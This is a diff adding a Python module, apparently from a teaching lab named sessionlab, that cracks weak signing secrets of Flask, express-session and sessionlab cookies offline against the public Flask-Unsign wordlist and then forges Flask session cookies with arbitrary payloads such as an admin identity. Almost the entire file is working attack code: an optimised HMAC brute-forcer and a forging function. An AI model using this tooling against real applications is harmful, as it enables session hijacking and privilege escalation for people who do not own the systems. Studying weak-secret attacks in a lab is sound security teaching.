@@ -1,0 +1,185 @@
+"""Cracking a weak signing secret offline, and forging a session with it.
+
+An attacker who captured one signed cookie can try candidate secrets on their own machine,
+as fast as the machine computes HMACs, without sending a single request: the cookie holds
+both the signed bytes and the signature. Every candidate that reproduces the signature is
+the key, and the key signs anything. The public Flask-Unsign wordlist (55,982 secrets found
+in public code) is where an attacker starts; the seed's ``some secret key`` is on it.
+
+>>> from sessionlab.cookies import sign_express
+>>> result = crack(sign_express("abc", "some secret key"), progress=False)
+>>> result.secret, result.guesses
+('some secret key', 21273)
+"""
+
+from __future__ import annotations
+
+import functools
+import hashlib
+import sys
+import time
+from collections.abc import Callable, Sequence
+from dataclasses import dataclass
+from typing import Any
+
+from tqdm import tqdm
+
+from .cookies import (
+    FLASK_SALT,
+    SESSIONLAB_SALT,
+    CookieAnatomy,
+    decode_cookie,
+    sign_flask,
+)
+from .wordlist import load_wordlist
+
+CHUNK = 4096  # candidates between progress-bar updates: cheap enough to be invisible
+
+# HMAC (RFC 2104) by hand: the key padded to one 64-byte block, XORed with 0x36 (inner) and
+# 0x5C (outer). bytes.translate does the XOR in C; this avoids two hmac objects per guess.
+_INNER = bytes(byte ^ 0x36 for byte in range(256))
+_OUTER = bytes(byte ^ 0x5C for byte in range(256))
+_BLOCK = 64  # SHA-1 and SHA-256 both hash 64-byte blocks
+
+
+@dataclass(frozen=True)
+class CrackResult:
+    """The outcome of a wordlist attack: the secret (or None), and how long it took."""
+
+    secret: str | None
+    guesses: int
+    seconds: float
+    kind: str = ""
+    wordlist_size: int = 0
+
+    @property
+    def rate(self) -> float:
+        """Guesses per second."""
+        return self.guesses / self.seconds if self.seconds > 0 else float("inf")
+
+    def __str__(self) -> str:
+        # No timings here: they differ on every run; print result.rate for those.
+        tried = f"{self.guesses:,} of {self.wordlist_size:,} guesses"
+        if self.secret is None:
+            return f"not found: {tried}, none reproduced the {self.kind} cookie's signature"
+        return f"found {self.secret!r} after {tried}"
+
+
+def crack(
+    value: str | CookieAnatomy,
+    wordlist: Sequence[str] | None = None,
+    progress: bool = True,
+) -> CrackResult:
+    """Try every secret of ``wordlist`` (the public Flask-Unsign list by default) on a
+    Flask, express-session or sessionlab cookie, offline, with a progress bar.
+
+    >>> from sessionlab.cookies import sign_flask
+    >>> str(crack(sign_flask({"name": "alice"}, "hunter2"), ["a", "hunter2"], progress=False))
+    "found 'hunter2' after 2 of 2 guesses"
+    """
+    anatomy = value if isinstance(value, CookieAnatomy) else decode_cookie(value)
+    search = _searcher(anatomy)
+    words = load_wordlist() if wordlist is None else list(wordlist)
+    candidates = _encoded_default() if wordlist is None else _encode(words)
+    found, guesses = None, 0
+    bar = tqdm(
+        total=len(candidates),
+        desc=f"cracking the {anatomy.kind} cookie",
+        unit=" guesses",
+        unit_scale=len(candidates) >= 10_000,
+        disable=not progress,
+        file=sys.stderr,
+        mininterval=0.2,
+    )
+    started = time.perf_counter()
+    with bar:
+        for start in range(0, len(candidates), CHUNK):
+            chunk = candidates[start : start + CHUNK]
+            index = search(chunk)
+            if index >= 0:
+                found, guesses = words[start + index], start + index + 1
+                bar.update(index + 1)
+                break
+            guesses += len(chunk)
+            bar.update(len(chunk))
+    seconds = time.perf_counter() - started
+    return CrackResult(found, guesses, seconds, anatomy.kind, len(candidates))
+
+
+def _encode(words: Sequence[str]) -> tuple[bytes, ...]:
+    return tuple(word.encode("utf-8", "surrogateescape") for word in words)
+
+
+@functools.cache
+def _encoded_default() -> tuple[bytes, ...]:
+    return _encode(load_wordlist())
+
+
+def _searcher(anatomy: CookieAnatomy) -> Callable[[Sequence[bytes]], int]:
+    """The fastest check for this kind of cookie, with its signed bytes bound once."""
+    message, target = anatomy.signed, anatomy.digest
+    if anatomy.kind == "flask":
+        return functools.partial(_search_derived, hashlib.sha1, FLASK_SALT, message, target)
+    if anatomy.kind == "sessionlab":
+        salt = SESSIONLAB_SALT
+        return functools.partial(_search_derived, hashlib.sha256, salt, message, target)
+    if anatomy.kind == "express":
+        return functools.partial(_search_direct, hashlib.sha256, message, target)
+    raise ValueError(
+        "only Flask, express-session and sessionlab cookies can be cracked: "
+        f"this one is not signed in a format we know ({anatomy.problem})"
+    )
+
+
+def _search_derived(
+    hash_new: Callable[..., Any], salt: bytes, message: bytes, target: bytes, words
+) -> int:
+    """Index of the word w with HMAC(HMAC(w, salt), message) == target, else -1.
+
+    Flask and our Signer derive the key as HMAC(secret, salt); both HMACs are inlined.
+    """
+    inner, outer, block = _INNER, _OUTER, _BLOCK
+    for index, word in enumerate(words):
+        if len(word) > block:
+            word = hash_new(word).digest()
+        key = word.ljust(block, b"\0")
+        derived = hash_new(
+            key.translate(outer) + hash_new(key.translate(inner) + salt).digest()
+        ).digest()
+        key = derived.ljust(block, b"\0")
+        signature = hash_new(
+            key.translate(outer) + hash_new(key.translate(inner) + message).digest()
+        ).digest()
+        if signature == target:
+            return index
+    return -1
+
+
+def _search_direct(hash_new: Callable[..., Any], message: bytes, target: bytes, words) -> int:
+    """Index of the word w with HMAC(w, message) == target, else -1 (express-session)."""
+    inner, outer, block = _INNER, _OUTER, _BLOCK
+    for index, word in enumerate(words):
+        if len(word) > block:
+            word = hash_new(word).digest()
+        key = word.ljust(block, b"\0")
+        signature = hash_new(
+            key.translate(outer) + hash_new(key.translate(inner) + message).digest()
+        ).digest()
+        if signature == target:
+            return index
+    return -1
+
+
+def forge_flask(payload: dict[str, Any], secret: str | CrackResult) -> str:
+    """A Flask session cookie for any ``payload``, signed with a cracked ``secret``.
+
+    A cookie-session server cannot tell it from one it issued itself.
+
+    >>> forged = forge_flask({"name": "admin"}, "some secret key")
+    >>> decode_cookie(forged).payload
+    {'name': 'admin'}
+    """
+    key = secret.secret if isinstance(secret, CrackResult) else secret
+    if key is None:
+        raise ValueError("the crack found no secret: nothing to forge with")
+    return sign_flask(payload, key)
